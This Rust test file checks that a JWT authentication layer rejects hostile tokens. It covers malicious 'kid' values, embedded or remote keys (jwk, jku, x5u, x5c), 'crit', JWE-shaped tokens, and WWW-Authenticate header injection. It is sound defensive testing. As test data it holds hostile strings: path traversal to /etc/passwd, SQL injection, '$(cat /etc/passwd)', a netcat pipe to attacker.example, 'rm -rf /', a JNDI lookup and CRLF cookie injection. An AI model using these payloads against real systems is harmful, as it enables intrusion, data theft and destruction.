//! Attack suite, JOSE header: hostile `kid`s (paths, SQL, shell, format
//! strings, huge, non-strings, control characters), embedded keys and key
//! URLs (`jwk`, `jku`, `x5u`, `x5c`) that must never be used nor fetched,
//! `crit` in any form, JWE-shaped and nested tokens, and attempts to inject
//! into the `WWW-Authenticate` challenge through any value of the token.

mod common;

use axum::Router;
use http::StatusCode;
use jsonwebtoken::{Algorithm, EncodingKey};
use jwt_layer::{JwtAuth, Key};
use serde_json::{Value, json};

use common::*;

const KID: &str = "kid";
const EMBEDDED: &str = "embedded-key";
const CRIT: &str = "crit";
const JWE: &str = "jwe-nested";
const INJECTION: &str = "challenge-injection";

/// Two HMAC keys, both with a `kid`: no fallback for unknown kids.
fn kid_app() -> (Router, Hits) {
    router(
        builder_without_keys()
            .key(Key::hmac(SECRET).unwrap().with_kid("k1"))
            .key(Key::hmac(OTHER_SECRET).unwrap().with_kid("k2"))
            .build()
            .unwrap(),
    )
}

fn builder_without_keys() -> jwt_layer::JwtAuthBuilder<TestClaims> {
    JwtAuth::<TestClaims>::builder()
        .issuer(ISSUER)
        .audience(AUDIENCE)
}

fn rsa_app() -> (Router, Hits) {
    router(
        builder_without_keys()
            .key(Key::rsa_pem(RSA_PUBLIC_PEM).unwrap().with_kid("rsa"))
            .build()
            .unwrap(),
    )
}

/// A JSON string literal for `s` (quotes and escapes included).
fn json_str(s: &str) -> String {
    Value::from(s).to_string()
}

/// Hostile key ids an attacker might hope reach a file system, a database,
/// a shell, a format string or a log.
fn hostile_kids() -> Vec<String> {
    let mut kids: Vec<String> = [
        "../../../../../../etc/passwd",
        "/dev/null",
        "../../../../dev/null",
        "file:///etc/passwd",
        "C:\\Windows\\win.ini",
        "k1/../k1",
        "./k1",
        "k1\u{0000}",
        "k1\u{0000}../../etc/passwd",
        "' OR '1'='1",
        "k1' --",
        "\"; DROP TABLE keys; --",
        "1; SELECT * FROM keys",
        "$(cat /etc/passwd)",
        "`id`",
        "| nc attacker.example 4444",
        "k1; rm -rf /",
        "%s%s%s%s%n",
        "%x%x%x",
        "{0}{1}",
        "{}",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "k1\r\nX-Injected: 1",
        "k1\n",
        "\u{001b}[31mred",
        "\u{007f}",
        "\u{fffd}",
        "\u{202e}1k",
        "ｋ1",
        "K1",
        "k1 ",
        " k1",
        "",
        "http://127.0.0.1:1/jwks.json",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    kids.push("k".repeat(256));
    kids.push("k1".repeat(129));
    kids.push("\u{0000}".repeat(100));
    kids
}

// --- kid ------------------------------------------------------------------------

#[tokio::test]
async fn hostile_kids_with_a_valid_signature_name_no_key() {
    let (app, hits) = kid_app();
    let payload = claims().to_string();
    for kid in hostile_kids() {
        // Signed with the real key k1: only the kid is wrong.
        let header = format!(r#"{{"alg":"HS256","kid":{}}}"#, json_str(&kid));
        let token = craft(&header, &payload);
        hostile_case(
            KID,
            &format!("{kid:?}"),
            &app,
            &hits,
            &token,
            "unknown signing key",
        )
        .await;
    }
    assert_eq!(hits.count(), 0);
    assert_ok(
        &app,
        &hits,
        bearer(&craft(r#"{"alg":"HS256","kid":"k1"}"#, &payload)),
    )
    .await;
}

#[tokio::test]
async fn dev_null_kid_with_an_empty_key_is_refused() {
    // The classic: point the kid at an empty file and sign with an empty key.
    let empty = EncodingKey::from_secret(b"");
    let (app, hits) = kid_app();
    for kid in ["/dev/null", "../../../../../../dev/null", "k1"] {
        let token = sign(Algorithm::HS256, Some(kid), &claims(), &empty);
        let want = if kid == "k1" {
            "invalid signature"
        } else {
            "unknown signing key"
        };
        hostile_token(KID, &app, &hits, &token, want).await;
    }
    // A layer whose only key has no kid ignores the kid: still our secret.
    let (app, hits) = router(builder().build().unwrap());
    for kid in ["/dev/null", "' OR 1=1 --", "k1"] {
        let token = sign(Algorithm::HS256, Some(kid), &claims(), &empty);
        hostile_token(KID, &app, &hits, &token, "invalid signature").await;
    }
}

#[tokio::test]
async fn kids_of_other_json_types_are_malformed() {
    let (app, hits) = kid_app();
    let payload = claims().to_string();
    for kid in [
        "1",
        "0",
        "-1",
        "1e400",
        "true",
        "[]",
        r#"["k1"]"#,
        "{}",
        r#"{"k1":1}"#,
    ] {
        let header = format!(r#"{{"alg":"HS256","kid":{kid}}}"#);
        hostile_token(
            KID,
            &app,
            &hits,
            &craft(&header, &payload),
            "malformed token",
        )
        .await;
    }
    // `kid` is a string when present (RFC 7515 §4.1.4): `null` is malformed.
    let header = r#"{"alg":"HS256","kid":null}"#;
    hostile_token(
        KID,
        &app,
        &hits,
        &craft(header, &payload),
        "malformed token",
    )
    .await;
    // Two kids: the header is malformed, whichever comes first.
    for header in [
        r#"{"alg":"HS256","kid":"k1","kid":"k2"}"#,
        r#"{"alg":"HS256","kid":"nope","kid":"k1"}"#,
        r#"{"alg":"HS256","kid":"k1","\u006bid":"k2"}"#,
    ] {
        hostile_token(
            KID,
            &app,
            &hits,
            &craft(header, &payload),
            "malformed token",
        )
        .await;
    }
}

#[tokio::test]
async fn huge_kids_are_refused_without_a_lookup() {
    let (app, hits) = kid_app();
    // Just over the 256-byte kid limit, and a few KiB (under the token limit).
    for (case, kid, description) in [
        ("257 bytes", "k".repeat(257), "unknown signing key"),
        ("1000 bytes", "k".repeat(1000), "unknown signing key"),
        ("4000 bytes", "k".repeat(4000), "unknown signing key"),
        // Larger than the token limit.
        ("8 KiB", "k".repeat(8 * 1024), "token too large"),
        // A kid of 200 two-byte characters is more than 256 bytes.
        (
            "200 two-byte characters",
            "é".repeat(200),
            "unknown signing key",
        ),
    ] {
        let token = sign(Algorithm::HS256, Some(&kid), &claims(), &hmac_signer());
        hostile_case(KID, case, &app, &hits, &token, description).await;
    }
}

#[tokio::test]
async fn a_kid_naming_another_key_does_not_borrow_its_algorithms() {
    // k1 is an RSA key: an HS256 token naming it, MACed with its PEM text.
    let (app, hits) = rsa_app();
    let pem_key = EncodingKey::from_secret(RSA_PUBLIC_PEM.as_bytes());
    let token = sign(Algorithm::HS256, Some("rsa"), &claims(), &pem_key);
    let case = "HS256 naming the RSA key";
    hostile_case(KID, case, &app, &hits, &token, "algorithm not allowed").await;
    // The kid of key k2 on a token MACed with k1's secret.
    let (app, hits) = kid_app();
    let token = sign(Algorithm::HS256, Some("k2"), &claims(), &hmac_signer());
    let case = "k1's secret naming k2";
    hostile_case(KID, case, &app, &hits, &token, "invalid signature").await;
}

// --- Embedded keys and key URLs ----------------------------------------------------------

#[tokio::test]
async fn embedded_jwk_of_the_attacker_is_never_used() {
    let payload = claims().to_string();
    // An RSA layer; the attacker signs with their own RSA key and embeds it.
    let (app, hits) = rsa_app();
    let attacker_jwk = jwk_json(
        &jsonwebtoken::DecodingKey::from_rsa_pem(ATTACKER_RSA_PUBLIC_PEM.as_bytes()).unwrap(),
        Algorithm::RS256,
        Some("rsa"),
    );
    for header in [
        format!(r#"{{"alg":"RS256","jwk":{attacker_jwk}}}"#),
        format!(r#"{{"alg":"RS256","kid":"rsa","jwk":{attacker_jwk}}}"#),
        format!(r#"{{"alg":"RS256","kid":"attacker","jwk":{attacker_jwk}}}"#),
    ] {
        let token = craft_signed(&header, &payload, Algorithm::RS256, &attacker_rsa_signer());
        let want = if header.contains("\"attacker\"") {
            "unknown signing key"
        } else {
            "invalid signature"
        };
        hostile_token(EMBEDDED, &app, &hits, &token, want).await;
    }
    // An HMAC layer; the attacker embeds an `oct` key (their secret), or
    // our own public key as an `oct` key.
    let (app, hits) = router(builder().build().unwrap());
    let oct = format!(r#"{{"kty":"oct","k":"{}"}}"#, b64(OTHER_SECRET));
    let header = format!(r#"{{"alg":"HS256","jwk":{oct}}}"#);
    let token = craft_signed(
        &header,
        &payload,
        Algorithm::HS256,
        &EncodingKey::from_secret(OTHER_SECRET),
    );
    hostile_token(EMBEDDED, &app, &hits, &token, "invalid signature").await;
    // Embedded keys of the wrong shape change nothing either.
    for jwk in ["null", "1", r#""key""#, "[]", r#"{"kty":"none"}"#] {
        let header = format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#);
        let token = craft_signed(
            &header,
            &payload,
            Algorithm::HS256,
            &EncodingKey::from_secret(OTHER_SECRET),
        );
        hostile_token(EMBEDDED, &app, &hits, &token, "invalid signature").await;
    }
}

#[tokio::test]
async fn x5c_certificate_chains_are_never_used() {
    let (app, hits) = rsa_app();
    let payload = claims().to_string();
    let der = b64(RSA_PUBLIC_DER);
    for x5c in [
        json!(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]),
        json!([der]),
        json!("not an array"),
        json!([1, 2, 3]),
    ] {
        let header = json!({"alg": "RS256", "x5c": x5c, "x5t": "abc", "x5t#S256": "def"});
        let token = craft_signed(
            &header.to_string(),
            &payload,
            Algorithm::RS256,
            &attacker_rsa_signer(),
        );
        hostile_token(EMBEDDED, &app, &hits, &token, "invalid signature").await;
    }
}

/// The attacker's key server: it publishes the attacker's key as a JWK Set
/// and as a PEM certificate at `/cert.pem`.
#[cfg(feature = "test-util")]
async fn attackers_key_server() -> jwt_layer::testing::JwksServer {
    let evil = jwt_layer::testing::JwksServer::start().await.unwrap();
    let attacker_jwk = jwk_json(
        &jsonwebtoken::DecodingKey::from_rsa_pem(ATTACKER_RSA_PUBLIC_PEM.as_bytes()).unwrap(),
        Algorithm::RS256,
        Some("evil"),
    );
    evil.set_jwks(jwks_json(&[attacker_jwk]));
    evil.set_document(
        "/cert.pem",
        "application/pkix-cert",
        ATTACKER_RSA_PUBLIC_PEM,
    );
    evil
}

/// An RS256 header naming `url` in `member` (`jku` or `x5u`), with an
/// optional kid, signed by the attacker's key.
#[cfg(feature = "test-util")]
fn token_with_key_url(member: &str, url: &str, kid: Option<&str>) -> String {
    let mut header = json!({"alg": "RS256", member: url});
    if let Some(kid) = kid {
        header["kid"] = json!(kid);
    }
    craft_signed(
        &header.to_string(),
        &claims().to_string(),
        Algorithm::RS256,
        &attacker_rsa_signer(),
    )
}

#[cfg(feature = "test-util")]
#[tokio::test]
async fn jku_and_x5u_are_never_fetched() {
    use jwt_layer::testing::JwksServer;

    let evil = attackers_key_server().await;
    let urls = [
        evil.url(),
        evil.url_for("/cert.pem"),
        format!("{}/../jwks.json", evil.base_url()),
    ];

    // Against static keys and against a remote key set of our own.
    let ours = JwksServer::start().await.unwrap();
    ours.set_jwks(jwks_json(&[jwk_json(
        &jsonwebtoken::DecodingKey::from_rsa_pem(RSA_PUBLIC_PEM.as_bytes()).unwrap(),
        Algorithm::RS256,
        Some("rsa"),
    )]));
    let remote = jwt_layer::keys::RemoteJwks::builder(ours.url())
        .build()
        .unwrap();
    let remote_app = router(builder_without_keys().key_source(remote).build().unwrap());
    for (name, (app, hits)) in [("static", rsa_app()), ("remote", remote_app)] {
        for url in &urls {
            for member in ["jku", "x5u"] {
                for kid in [None, Some("rsa"), Some("evil")] {
                    let token = token_with_key_url(member, url, kid);
                    let want = if kid == Some("evil") {
                        "unknown signing key"
                    } else {
                        "invalid signature"
                    };
                    hostile_token(EMBEDDED, &app, &hits, &token, want).await;
                }
            }
        }
        assert_eq!(
            evil.total_requests(),
            0,
            "{name}: the attacker's server was contacted"
        );
    }
    // Our remote set was fetched (once, plus the refetches unknown kids may cause).
    assert!(ours.request_count() >= 1);
    assert_eq!(evil.total_requests(), 0);
}

// --- crit -------------------------------------------------------------------------------

/// `crit` values of every JSON type, listing names we know and do not.
const CRIT_VALUES: &[&str] = &[
    r#"["exp"]"#,
    r#"["b64"]"#,
    r#"["http://example.invalid/ext"]"#,
    r#"["alg"]"#,
    r#"["kid"]"#,
    "[]",
    r#"[""]"#,
    r#""exp""#,
    r#""""#,
    "null",
    "false",
    "0",
    "{}",
    r#"{"exp":true}"#,
    "[null]",
    "[[]]",
];

#[tokio::test]
async fn crit_in_any_form_is_refused() {
    let (app, hits) = router(builder().build().unwrap());
    let payload = claims().to_string();
    for crit in CRIT_VALUES {
        for extra in [
            "",
            r#","exp":true"#,
            r#","http://example.invalid/ext":true"#,
        ] {
            let header = format!(r#"{{"alg":"HS256","crit":{crit}{extra}}}"#);
            hostile_token(
                CRIT,
                &app,
                &hits,
                &craft(&header, &payload),
                "unsupported token header",
            )
            .await;
        }
    }
    // The member name spelled with an escape is still `crit`.
    // `crit` before `alg`: refused either way. Two `crit` members: a
    // malformed header.
    for (header, description) in [
        (
            r#"{"alg":"HS256","\u0063rit":["exp"]}"#,
            "unsupported token header",
        ),
        (
            r#"{"crit":["exp"],"alg":"HS256"}"#,
            "unsupported token header",
        ),
        (
            r#"{"alg":"HS256","crit":["a"],"crit":["b"]}"#,
            "malformed token",
        ),
    ] {
        let token = craft(header, &payload);
        hostile_case(CRIT, header, &app, &hits, &token, description).await;
    }
    // Names that only look like it are ordinary unknown members.
    for header in [
        r#"{"alg":"HS256","Crit":["exp"]}"#,
        r#"{"alg":"HS256","crit ":["exp"]}"#,
    ] {
        assert_ok(&app, &hits, bearer(&craft(header, &payload))).await;
    }
}

// --- JWE-shaped and nested tokens ---------------------------------------------------------

#[tokio::test]
async fn jwe_shaped_tokens_are_refused() {
    let (app, hits) = router(builder().build().unwrap());
    let payload = claims().to_string();
    let jwe_header = b64(r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#);
    // Five segments, as RFC 7516 compact serialization has.
    for token in [
        format!(
            "{jwe_header}.{}.{}.{}.{}",
            b64("key"),
            b64("iv"),
            b64("ct"),
            b64("tag")
        ),
        format!("{jwe_header}..{}.{}.{}", b64("iv"), b64("ct"), b64("tag")),
        format!("{jwe_header}.{}.{}.{}.", b64("key"), b64("iv"), b64("ct")),
        "eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..aaaa.bbbb.cccc".to_owned(),
    ] {
        hostile_token(JWE, &app, &hits, &token, "malformed token").await;
    }
    // Three segments with a JWE header (and a valid HMAC signature).
    for header in [
        r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#,
        r#"{"alg":"dir","enc":"A128CBC-HS256"}"#,
        r#"{"alg":"HS256","enc":"A256GCM"}"#,
        r#"{"alg":"HS256","enc":null}"#,
        r#"{"alg":"HS256","zip":"DEF"}"#,
        r#"{"alg":"HS256","b64":true}"#,
    ] {
        hostile_token(
            JWE,
            &app,
            &hits,
            &craft(header, &payload),
            "unsupported token header",
        )
        .await;
    }
    // JWE algorithm names without `enc`.
    for alg in [
        "RSA-OAEP",
        "RSA1_5",
        "A256KW",
        "dir",
        "ECDH-ES",
        "PBES2-HS256+A128KW",
    ] {
        let header = format!(r#"{{"alg":"{alg}"}}"#);
        hostile_token(
            JWE,
            &app,
            &hits,
            &craft(&header, &payload),
            "algorithm not allowed",
        )
        .await;
    }
}

#[tokio::test]
async fn nested_tokens_are_not_unwrapped() {
    let (app, hits) = router(builder().build().unwrap());
    // An inner token signed by the attacker, wrapped in a JWS signed by us
    // (cty JWT): the payload is a token, not a claims object.
    let inner = sign(
        Algorithm::HS256,
        None,
        &claims_with(json!({"sub": "admin"})),
        &EncodingKey::from_secret(OTHER_SECRET),
    );
    let good_inner = valid_token();
    for payload in [
        inner.clone(),
        good_inner.clone(),
        json_str(&inner),
        json_str(&good_inner),
    ] {
        for header in [r#"{"alg":"HS256","cty":"JWT"}"#, r#"{"alg":"HS256"}"#] {
            hostile_token(
                JWE,
                &app,
                &hits,
                &craft(header, &payload),
                "malformed token",
            )
            .await;
        }
    }
    // A token inside a claim is just a string claim; the outer signature rules.
    let wrapper = claims_with(json!({"token": inner})).to_string();
    let outer = craft_signed(
        r#"{"alg":"HS256","cty":"JWT"}"#,
        &wrapper,
        Algorithm::HS256,
        &EncodingKey::from_secret(OTHER_SECRET),
    );
    hostile_token(JWE, &app, &hits, &outer, "invalid signature").await;
    // A token as the bearer of a token: two tokens in one header.
    hostile(
        JWE,
        &app,
        &hits,
        authorization(&format!("Bearer {good_inner} {good_inner}")),
        StatusCode::BAD_REQUEST,
        Some(INVALID_REQUEST),
    )
    .await;
    let dotted = format!("{good_inner}.{good_inner}");
    hostile_token(JWE, &app, &hits, &dotted, "malformed token").await;
}

// --- Injection into WWW-Authenticate ------------------------------------------------------------

/// Texts that would break out of a quoted-string or a header line if they
/// reached the challenge.
const INJECTIONS: &[&str] = &[
    "\", error=\"none",
    "\"\r\nSet-Cookie: session=evil",
    "\r\n\r\n<html>",
    "\\\"",
    "x\", scope=\"admin",
    "\u{0000}",
    "realm=\"evil\"",
];

fn assert_no_echo(res: &http::Response<axum::body::Body>, token: &str) {
    for (name, value) in res.headers() {
        let value = value.as_bytes();
        for part in token.split('.').filter(|p| p.len() >= 8) {
            assert!(
                !value.windows(part.len()).any(|w| w == part.as_bytes()),
                "header {name} echoes the token"
            );
        }
        for inj in INJECTIONS {
            let inj = inj.as_bytes();
            assert!(
                inj.len() < 4 || !value.windows(inj.len()).any(|w| w == inj),
                "header {name} carries injected text"
            );
        }
    }
    assert!(
        !res.headers().contains_key("set-cookie"),
        "a rejection sets a cookie"
    );
}

#[tokio::test]
async fn no_token_value_reaches_the_challenge() {
    let (app, hits) = kid_app();
    for inj in INJECTIONS {
        let s = json_str(inj);
        let cases = vec![
            // A kid, an alg, a typ: each in the header.
            (
                format!(r#"{{"alg":"HS256","kid":{s}}}"#),
                claims().to_string(),
                "unknown signing key",
            ),
            (
                format!(r#"{{"alg":{s}}}"#),
                claims().to_string(),
                "algorithm not allowed",
            ),
            (
                format!(r#"{{"alg":"HS256","kid":"k1","typ":{s}}}"#),
                claims_with(json!({"iss": inj})).to_string(),
                "invalid issuer",
            ),
            (
                r#"{"alg":"HS256","kid":"k1"}"#.to_owned(),
                claims_with(json!({"aud": inj})).to_string(),
                "invalid audience",
            ),
            (
                r#"{"alg":"HS256","kid":"k1"}"#.to_owned(),
                claims_with(json!({"exp": inj})).to_string(),
                "invalid claims",
            ),
            (
                r#"{"alg":"HS256","kid":"k1","crit":["x"]}"#.to_owned(),
                claims_with(json!({"sub": inj})).to_string(),
                "unsupported token header",
            ),
        ];
        for (header, payload, description) in cases {
            let token = craft(&header, &payload);
            tally(INJECTION);
            let want = invalid_token(description);
            let res = assert_rejected(
                &app,
                &hits,
                bearer(&token),
                StatusCode::UNAUTHORIZED,
                Some(&want),
            )
            .await;
            assert_no_echo(&res, &token);
        }
    }
}

#[tokio::test]
async fn the_scope_challenge_names_only_the_configured_scopes() {
    let (app, hits) = router(builder().require_scope("admin").build().unwrap());
    let want = insufficient_scope("admin");
    for inj in INJECTIONS {
        for claim in [
            json!({"scope": inj}),
            json!({"scp": [inj]}),
            json!({"scope": format!("read {inj}")}),
        ] {
            let token = hs256(&claims_with(claim));
            tally(INJECTION);
            let res = assert_rejected(
                &app,
                &hits,
                bearer(&token),
                StatusCode::FORBIDDEN,
                Some(&want),
            )
            .await;
            assert_no_echo(&res, &token);
        }
    }
}

#[test]
fn realm_and_scope_that_could_inject_are_refused_at_build() {
    for realm in [
        "api\", error=\"none",
        "api\r\nSet-Cookie: x=1",
        "api\n",
        "api\\",
        "",
        "ápi",
        "api\u{0000}",
    ] {
        tally(INJECTION);
        let built = builder().realm(realm).build();
        assert!(built.is_err(), "realm {realm:?} was accepted");
    }
    for scope in [
        "admin\"",
        "admin\r\nX: 1",
        "ad min",
        "admin\\",
        "",
        "ádmin",
        "a\u{0000}",
    ] {
        tally(INJECTION);
        let built = builder().require_scope(scope).build();
        assert!(built.is_err(), "scope {scope:?} was accepted");
    }
}

#[tokio::test]
async fn an_unusual_but_valid_realm_is_quoted_verbatim() {
    let (app, hits) = router(builder().realm("my realm: v1 (test)").build().unwrap());
    let res = assert_rejected(
        &app,
        &hits,
        anonymous(),
        StatusCode::UNAUTHORIZED,
        Some(r#"Bearer realm="my realm: v1 (test)""#),
    )
    .await;
    assert_no_echo(&res, "");
    let token = format!("{}.x", valid_token());
    tally(INJECTION);
    assert_rejected(
        &app,
        &hits,
        bearer(&token),
        StatusCode::UNAUTHORIZED,
        Some(r#"Bearer realm="my realm: v1 (test)", error="invalid_token", error_description="malformed token""#),
    )
    .await;
}
